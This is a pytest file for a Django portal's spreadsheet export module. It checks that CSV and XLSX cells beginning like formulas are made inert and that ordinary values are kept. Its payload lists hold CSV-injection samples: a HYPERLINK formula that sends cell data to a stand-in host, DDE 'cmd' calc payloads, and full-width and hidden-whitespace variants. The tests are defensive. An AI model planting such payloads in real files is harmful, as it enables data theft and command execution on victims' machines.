"""No CSV or XLSX file of the portal carries a formula into a spreadsheet program
(consents/spreadsheets.py)."""

import csv
import datetime as dt
import io

import pytest
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from consents.spreadsheets import safe_cell, spreadsheet

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

# What a spreadsheet program reads as the start of a formula, also in full width (the brief
# of the test, stated apart from consents/spreadsheets.py so that it checks the module).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Full-width forms, which Excel can take for = + - @, and others that normalise to them.
WIDE_PAYLOADS = [
    '\uff1dHYPERLINK("http://evil.example")',  # ＝
    "\uff0bcmd|' /C calc'!A0",  # ＋
    "\uff0d2+3",  # －
    "\uff20SUM(1+1)",  # ＠
    "\ufe661+1",  # ﹦ small equals sign
    "\u207c1+1",  # ⁼ superscript equals sign
]
# What a spreadsheet program may skip before it looks for the formula's sign.
HIDDEN_START_PAYLOADS = [
    " =1+1",
    "   +1",
    "\n=1+1",
    "\xa0-1",  # no-break space
    "\u3000\uff1d1+1",  # ideographic (full-width) space, then ＝
    "\u200b=1+1",  # zero-width space
    "\ufeff@SUM(1)",  # byte-order mark
]


def starts_like_a_formula(value) -> bool:
    return isinstance(value, str) and (
        value.startswith(TRIGGERS) or value.lstrip().startswith(TRIGGERS)
    )


def write(fmt: str, header, rows) -> bytes:
    buffer = io.BytesIO()
    with spreadsheet(fmt, buffer) as book:
        sheet = book.sheet("Export")
        sheet.append(header)
        for row in rows:
            sheet.append(row)
    return buffer.getvalue()


def read_csv(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def read_xlsx(content: bytes):
    sheet = load_workbook(io.BytesIO(content)).active
    return [[(c.value, c.data_type) for c in row] for row in sheet.iter_rows()]


@pytest.mark.parametrize("payload", PAYLOADS + WIDE_PAYLOADS + HIDDEN_START_PAYLOADS)
def test_a_cell_that_starts_like_a_formula_is_made_inert(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [
        "Zoë de Vries",
        "van der Berg",
        "Özdemir",
        "山田",
        "<5",  # the report's marks of hidden counts
        "–",
        "×",
        "a=b",
        "2026-10-01T10:00:00+02:00",
        "",
        " ",
        12,
        -5,
        -2.5,
        None,
        dt.date(2026, 9, 1),
    ],
)
def test_ordinary_values_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


def test_a_lazy_translation_is_written_as_its_text():
    assert safe_cell(gettext_lazy("yes")) == "yes"


def test_a_csv_export_neutralises_every_payload_and_keeps_the_rest():
    payloads = PAYLOADS + WIDE_PAYLOADS + HIDDEN_START_PAYLOADS
    rows = [[payload, "Zoë", -3] for payload in payloads]
    parsed = read_csv(write("csv", ["name", "first name", "count"], rows))
    assert parsed[0] == ["name", "first name", "count"]
    for payload, row in zip(payloads, parsed[1:], strict=True):
        assert row == ["'" + payload, "Zoë", "-3"]


def test_an_xlsx_export_holds_no_formula_and_keeps_numbers_and_dates():
    payloads = PAYLOADS + WIDE_PAYLOADS + HIDDEN_START_PAYLOADS
    rows = [[payload, -7, 2.5, dt.date(2026, 9, 1)] for payload in payloads]
    parsed = read_xlsx(write("xlsx", ["name", "count", "share", "date"], rows))
    for payload, row in zip(payloads, parsed[1:], strict=True):
        assert row[0] == ("'" + payload.replace("\r", "\n"), "s")  # XLSX stores \r as \n
        assert row[1] == (-7, "n") and row[2] == (2.5, "n")
        assert row[3][0].date() == dt.date(2026, 9, 1) and row[3][1] == "d"


TRICKY = st.sampled_from(list("=+-@\t\r\n \xa0\u3000\u200b\ufeff\x00\uff1d\uff0b\uff0d\uff20"))


@given(
    st.lists(
        st.text(st.one_of(TRICKY, st.characters(exclude_categories=["Cs"])), max_size=40),
        min_size=1,
        max_size=5,
    )
)
def test_no_text_at_all_reaches_a_spreadsheet_as_a_formula(texts):
    for row in read_csv(write("csv", ["h"] * len(texts), [texts]))[1:]:
        for cell in row:
            assert not starts_like_a_formula(cell)
    for row in read_xlsx(write("xlsx", ["h"] * len(texts), [texts]))[1:]:
        for value, data_type in row:
            assert data_type != "f"
            assert not starts_like_a_formula(value)


def test_a_control_character_in_front_of_a_formula_does_not_smuggle_it_into_xlsx():
    parsed = read_xlsx(write("xlsx", ["name"], [["\x00=1+1"], ["Zo\x0bë"]]))
    assert parsed[1] == [("'=1+1", "s")]
    assert parsed[2] == [("Zoë", "s")]
    assert read_csv(write("csv", ["name"], [["\x00=1+1"]]))[1] == ["'\x00=1+1"]
